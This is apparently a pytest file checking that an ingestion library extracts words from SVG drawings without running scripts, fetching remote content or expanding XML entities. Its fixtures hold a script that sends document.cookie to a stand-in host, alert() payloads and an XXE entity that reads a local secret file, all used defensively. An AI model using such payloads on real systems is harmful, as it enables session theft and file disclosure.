"""SVG drawings: their words are read, nothing in them is run, fetched or expanded."""

from pathlib import Path

import pytest

from ingest.discover import identify
from ingest.errors import BrokenError
from ingest.partition import partition

DRAWING = """<?xml version="1.0"?>
<!-- made by hand -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200">
  <title>Passengers by quarter</title><desc>A bar for each quarter.</desc>
  <script>fetch("http://example.org/" + document.cookie)</script>
  <style>text { font-family: "Hidden Sans" }</style>
  <defs><text>unseen pattern</text></defs>
  <image xlink:href="http://example.org/tracker.png"/>
  <g onclick="alert(1)"><text x="1" y="2">Q1 <tspan font-weight="bold">1,060</tspan></text></g>
  <text><tspan x="0" y="0">first line</tspan><tspan x="0" y="12">second line</tspan></text>
  <foreignObject><p>In <b>thousands</b><script>alert(2)</script></p></foreignObject>
</svg>"""


def read(folder: Path, text: str, name: str = "a.svg"):
    path = folder / name
    path.write_text(text)
    return partition(identify(str(path), max_bytes=10**7))


def test_the_words_of_a_drawing_are_one_picture_and_its_scripts_are_not_among_them(tmp_path):
    (image,) = read(tmp_path, DRAWING).elements
    assert (image.category, image.image_path) == ("Image", None)
    assert image.text.splitlines() == [
        "Passengers by quarter",
        "A bar for each quarter.",
        "Q1 1,060",
        "first line",
        "second line",
        "In thousands",
    ]


@pytest.mark.parametrize(
    "start",
    ["", "<?xml version='1.0'?>\n", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">\n'],
)
def test_a_drawing_is_known_by_its_content(tmp_path, start):
    path = tmp_path / "drawing"
    path.write_text(f"{start}<svg xmlns='http://www.w3.org/2000/svg'><text>Pier</text></svg>")
    assert identify(str(path), max_bytes=10**6).format == "svg"


def test_a_page_with_a_drawing_in_it_stays_a_page(tmp_path):
    path = tmp_path / "page.html"
    path.write_text("<html><body><svg><text>x</text></svg><p>Text of the page.</p></body></html>")
    assert identify(str(path), max_bytes=10**6).format == "html"


def test_entities_are_not_expanded_and_files_not_read(tmp_path):
    (tmp_path / "secret.txt").write_text("hunter2")
    entities = f'<!DOCTYPE svg [<!ENTITY f SYSTEM "file://{tmp_path}/secret.txt"><!ENTITY a "aaaa">]>'
    (image,) = read(tmp_path, f"{entities}<svg><text>Pier &f; &a; end</text></svg>").elements
    assert image.text == "Pier end"


def test_a_drawing_without_words_says_so(tmp_path):
    found = read(tmp_path, "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9'/></svg>")
    assert (found.elements, found.warnings) == ((), ("no text in the drawing",))


def test_what_is_no_svg_is_named_broken(tmp_path):
    with pytest.raises(BrokenError, match="broken SVG"):
        read(tmp_path, "<svg><text>Pier</svg>")
